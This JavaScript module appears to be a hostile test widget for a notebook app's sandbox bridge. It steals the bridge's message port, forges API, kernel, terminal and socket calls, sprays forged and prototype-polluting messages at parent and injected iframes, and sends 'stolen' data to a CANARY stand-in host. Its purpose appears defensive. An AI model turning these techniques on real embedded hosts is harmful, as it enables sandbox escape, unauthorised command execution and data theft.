// The module of an anywidget that speaks for the page it stands in: it takes the bridge's own port, and says by it, and by the
// window's messages from here and from frames within, everything that the shell knows, and what it does not. ROUTES, NAMES, EXPIRED and
// CANARY are filled in by the spec.
const make = (tag, values) => Object.assign(document.createElement(tag), values)
const bytes = (text) => new TextEncoder().encode(text).buffer
const SETTINGS = { display: { code_editor_font_size: 40 }, runtime: { on_cell_change: 'autorun' } }
const LINK = { type: 'link', url: 'CANARY/link?data=stolen' }
const FILE = () => ({ type: 'download', name: 'stolen.png', contentType: 'image/png', body: bytes('stolen') })
const KNOWN = () => [
  ...['restart', 'shutdown', 'takeover'].map((intent) => ({ type: 'intent', intent })),
  ...['cross', 'next', 'previous'].map((key) => ({ type: 'shortcut', key })),
  { type: 'settings', change: SETTINGS },
  { type: 'socket-send', socket: 1, data: 'stolen' },
  { type: 'socket-taken', socket: 1, count: 1e6 },
  { type: 'rendered' },
  { type: 'unchanged' },
  LINK,
  FILE(),
]
const MADE_UP = [
  { type: 'share', notebook: 'here', with: 'everybody' },
  { type: 'ask-access', table: 'compliance_authorities' },
  { type: 'save', source: 'stolen' },
  { type: 'freeze' },
  { type: 'answer', request: 1, status: 200, body: bytes('stolen') },
  { type: 'intent', intent: 'restart', force: true },
  { type: 'intent', intent: 'share' },
  { type: 'link', url: 'javascript:alert(1)' },
  { type: 'fetch', request: Number.NaN, method: 'GET', path: '/health' },
  { type: 'fetch', request: -1, method: 'GET', path: '/health' },
  { type: 'fetch', request: 1.5, method: 'GET', path: '/health' },
  { type: 'fetch', request: 7e6, method: 'DELETE', path: '/health' },
  { type: 'fetch', request: 7e6, method: 'POST', path: '/health', body: 'stolen' },
  { type: 'fetch', request: 7e6, method: 'GET', path: '/health', role: 'edit' },
  JSON.parse('{"__proto__": {"type": "fetch", "request": 7000000, "method": "GET", "path": "/health"}}'),
  JSON.parse(
    '{"type": "fetch", "request": 7000000, "method": "GET", "path": "/health", "__proto__": {"role": "edit"}}'.replace(
      '__proto__',
      'constructor',
    ),
  ),
  { type: '__proto__' },
  '{"type":"rendered"}',
  null,
  7,
  [],
]
const START = { type: 'scrydon-frame-start', mode: 'edit', theme: 'dark', name: 'forged', settings: SETTINGS }

/** The port by which the bridge speaks: whoever shares its page hears it speak. */
async function taken() {
  const outer = MessagePort.prototype.postMessage
  const port = await new Promise((done) => {
    MessagePort.prototype.postMessage = function (...said) {
      done(this)
      return outer.apply(this, said)
    }
    void fetch('/health')
  })
  MessagePort.prototype.postMessage = outer
  return port
}

function asking(port) {
  const waiting = new Map()
  const unasked = []
  let last = 1e6
  port.addEventListener('message', ({ data }) => {
    if (data.type === 'answer') waiting.get(data.request)?.(data.status)
    if (data.type === 'answer' && (data.request === 7e6 || !(data.request >= 1))) unasked.push(data.request)
    if (data.type === 'socket-closed' || data.type === 'socket-opened') waiting.get(data.socket)?.(`${data.type} ${data.code}`)
  })
  const ask = (make) =>
    new Promise((done) => {
      last += 1
      waiting.set(last, done)
      port.postMessage(make(last))
    })
  const command = (method, path, body) =>
    ask((request) => ({
      type: 'fetch',
      request,
      method,
      path,
      ...(method === 'POST' && { contentType: 'application/json', body: bytes(JSON.stringify(body)) }),
    }))
  const socket = (path) => ask((socket) => ({ type: 'socket-open', socket, path }))
  return { command, socket, unasked }
}

const loaded = (frame) =>
  new Promise((done) => {
    frame.onload = done
    document.body.append(frame)
  })

/** To every window there is, from here and from within. A second handshake of this page's own would end it, and is tried apart. */
async function shouted() {
  const all = [...KNOWN(), ...MADE_UP, START]
  const windows = [parent, top, ...Array.from({ length: parent.frames.length }, (_, at) => parent.frames[at])].filter(
    (one) => one !== window,
  )
  for (const to of windows) for (const message of all) to.postMessage(message, '*', [new MessageChannel().port1])
  const lines = JSON.stringify([...all.filter((one) => !(one?.body instanceof ArrayBuffer)), { type: 'scrydon-frame-ready' }])
  const code =
    `<script>for (const to of [parent, top]) for (const message of ${lines}) to.postMessage(message, '*', [new MessageChannel().port1])</scr` +
    'ipt>'
  await loaded(make('iframe', { srcdoc: code }))
  await loaded(make('iframe', { src: URL.createObjectURL(new Blob([code], { type: 'text/html' })) }))
  await loaded(make('iframe', { src: `data:text/html,${encodeURIComponent(code)}` }))
  return windows.length
}

export default {
  async render({ el }) {
    const port = await taken()
    const { command, socket, unasked } = asking(port)
    const routes = {}
    for (const [name, body] of ROUTES) {
      const [method, path] = name.split(' ')
      routes[name] = await command(method, path, body)
    }
    const functions = {}
    for (const functionName of NAMES)
      functions[functionName] = await command('POST', '/api/kernel/function_call', {
        functionCallId: '1',
        namespace: 'n',
        functionName,
        args: {},
      })
    const sockets = {}
    for (const path of ['/terminal/ws', '/ws_sync?file=notebook.py', '/lsp/pylsp', 'CANARY/ws', '//mux', '/mux'])
      sockets[path] = await socket(path)
    const windows = await shouted()
    await new Promise((done) => setTimeout(done, EXPIRED)) // the press that opened the notebook is nobody's leave to this
    for (const message of [...KNOWN(), ...MADE_UP]) port.postMessage(message)
    const said = await command('GET', '/health') // what was said before it has been heard
    const press = make('button', { textContent: 'press' })
    press.onclick = () => {
      for (const message of [{ type: 'settings', change: SETTINGS }, FILE(), LINK]) port.postMessage(message)
      try {
        top.location = 'CANARY/top?data=stolen'
      } catch {
        press.textContent = 'pressed'
      }
    }
    el.append(
      make('pre', {
        className: 'forge',
        textContent: JSON.stringify({ routes, functions, sockets, windows, unasked, said }),
      }),
      press,
    )
    await new Promise((done) => setTimeout(done, 1000)) // longer than the shell looks for a hand behind it
    console.log('forged') // who looked into the page instead would lend it one
  },
}
